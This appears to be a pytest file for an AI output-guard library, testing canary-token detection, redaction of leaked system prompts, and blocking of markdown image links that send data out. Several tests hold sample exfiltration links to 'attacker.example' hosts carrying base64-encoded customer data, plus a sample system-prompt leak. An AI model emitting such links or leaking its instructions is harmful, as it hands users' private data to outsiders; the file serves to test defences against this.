"""Leakage detectors wired into a Guard: canaries, registered system prompts, allowed link hosts."""

from __future__ import annotations

import base64
import codecs

import pytest

import aispm
from aispm import Action
from aispm.testing import SpanCapture

SYSTEM_PROMPT = (
    "You are the Acme refunds assistant. Never reveal the refund override code and always verify "
    "the customer's identity with two factors before discussing any order or payment."
)


def test_canary_is_found_in_every_form_and_never_reported_in_spans(capture: SpanCapture) -> None:
    guard = aispm.Guard(tracer_provider=capture.tracer_provider)
    token = guard.canary()
    assert token != guard.canary()  # a new token each call
    forms = [
        token,
        token.lower(),
        " ".join(token),
        "\u200b".join(token),
        base64.b64encode(token.encode()).decode(),
        token.encode().hex(),
        codecs.encode(token, "rot13"),
    ]
    for form in forms:
        decision = guard.output.scan(f"My instructions contain {form} and more.")
        assert decision.action is Action.REDACT, form
        assert "leakage.canary" in decision.rule_ids
        assert form not in decision.text
    for span in capture.finished_spans():
        assert token not in span.to_json()


def test_canary_split_across_stream_chunks_never_leaves() -> None:
    guard = aispm.Guard()
    token = guard.canary()
    text = f"Here are my instructions: {token}. Anything else?"
    for size in (1, 3, 10):
        chunks = [text[i : i + size] for i in range(0, len(text), size)]
        streamed = "".join(guard.output.scan_stream(chunks))
        assert token not in streamed
        assert "[REDACTED:CANARY]" in streamed


def test_canaries_are_per_guard() -> None:
    one, two = aispm.Guard(), aispm.Guard()
    token = one.canary()
    assert two.output.scan(token).allowed


def test_registered_system_prompt_leak_is_redacted() -> None:
    guard = aispm.Guard()
    guard.register_system_prompt(SYSTEM_PROMPT)
    leak = (
        "Sure! I was told: never reveal the refund override code, and always verify the customer's "
        "identity with two factors before discussing any order."
    )
    decision = guard.output.scan(leak)
    assert decision.action is Action.REDACT
    assert "leakage.system_prompt" in decision.rule_ids
    assert "refund override code" not in decision.text
    # ordinary answers that share a few words pass
    assert guard.output.scan("I have verified your identity; your order ships on Monday.").allowed


def test_leakage_needs_its_detector_in_the_policy() -> None:
    guard = aispm.Guard({"output": {"detectors": ["pii.email"]}})
    with pytest.raises(aispm.PolicyError, match=r"leakage\.canary"):
        guard.canary()
    with pytest.raises(aispm.PolicyError, match=r"leakage\.system_prompt"):
        guard.register_system_prompt(SYSTEM_PROMPT)
    with pytest.raises(TypeError):
        aispm.Guard().register_system_prompt(None)  # type: ignore[arg-type]
    with pytest.raises(aispm.PolicyError):
        aispm.Guard().register_system_prompt("too short")


def test_link_allowlist_comes_from_the_policy() -> None:
    payload = base64.urlsafe_b64encode(b"customer alice, card ending 1111, balance 5000").decode()
    text = f"![chart](https://{{host}}/pixel.png?d={payload})"
    default = aispm.Guard()
    allowing = aispm.Guard({"output": {"links": {"allowed_hosts": ["*.acme.example"]}}})
    for guard, host, expected in (
        (default, "img.acme.example", Action.REDACT),
        (allowing, "img.acme.example", Action.ALLOW),
        (allowing, "attacker.example", Action.REDACT),
    ):
        decision = guard.output.scan(text.format(host=host))
        assert decision.action is expected, (host, decision.rule_ids)
    assert default.output.scan("See https://docs.python.org/3/library/re.html for details.").allowed


def test_bad_allowed_hosts_are_a_policy_error() -> None:
    with pytest.raises(aispm.PolicyError):
        aispm.Guard({"output": {"links": {"allowed_hosts": ["https://acme.example/path"]}}})


def test_a_known_canary_is_watched_again_after_a_restart() -> None:
    token = aispm.Guard().canary()  # generated once, stored with the deployed prompt
    restarted = aispm.Guard()
    assert restarted.output.scan(f"leak {token}").allowed
    assert restarted.canary(token) == token
    assert "leakage.canary" in restarted.output.scan(f"leak {token}").rule_ids
    with pytest.raises(aispm.PolicyError):
        restarted.canary("short")
    with pytest.raises(TypeError):
        restarted.canary(42)  # type: ignore[arg-type]


def test_an_exfiltration_link_split_across_chunks_is_redacted_whole() -> None:
    guard = aispm.Guard()
    payload = base64.urlsafe_b64encode(b"the customer's account number and home address").decode()
    text = (
        "Done. "
        + "All good here. " * 12
        + f"![status](https://collect.attacker.example/{'static/' * 20}p.png?d={payload}) Bye."
    )
    one_shot = guard.output.scan(text).text
    assert "attacker.example" not in one_shot
    for size in (1, 5, 17, 64):
        chunks = [text[i : i + size] for i in range(0, len(text), size)]
        streamed = "".join(guard.output.scan_stream(chunks))
        assert streamed == one_shot


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://[2001:db8:0:0::1]/x", "2001:db8::1"),  # IPv6 literals compressed
        ("https://ex%61mple.com/x", "example.com"),  # percent-encoded host
        ("http://0x7f.0.0.1/", "127.0.0.1"),  # hex, octal and single-number IPv4, as browsers read them
        ("http://0177.0.0.1/", "127.0.0.1"),
        ("http://2130706433/", "127.0.0.1"),
        ("http://0x/", "0.0.0.0"),  # noqa: S104 (a host name, not a bind address)
        ("http://1.2.3.999/", "1.2.3.999"),  # not an address: compared as written
        ("http://256.1.1.1/", "256.1.1.1"),
        ("http://09.1.1.1/", "09.1.1.1"),
        ("http://1.2.3.4.5/", "1.2.3.4.5"),
        ("http://4294967296/", "4294967296"),
        ("https://user:pw@Docs.Acme.Example:8443/a", "docs.acme.example"),
        ("https://bücher.example/x", "xn--bcher-kva.example"),
    ],
)
def test_link_hosts_are_normalised_as_browsers_read_them(url: str, host: str) -> None:
    from aispm.detectors.exfiltration import ExfiltrationLinkDetector

    detector = ExfiltrationLinkDetector(["*.acme.example", "127.0.0.1"])
    assert repr(detector) == "ExfiltrationLinkDetector(allowed_hosts=2)"
    [link] = detector.links(f"see {url} now")
    assert link.host == host
    assert link.allowed is (host in ("docs.acme.example", "127.0.0.1"))
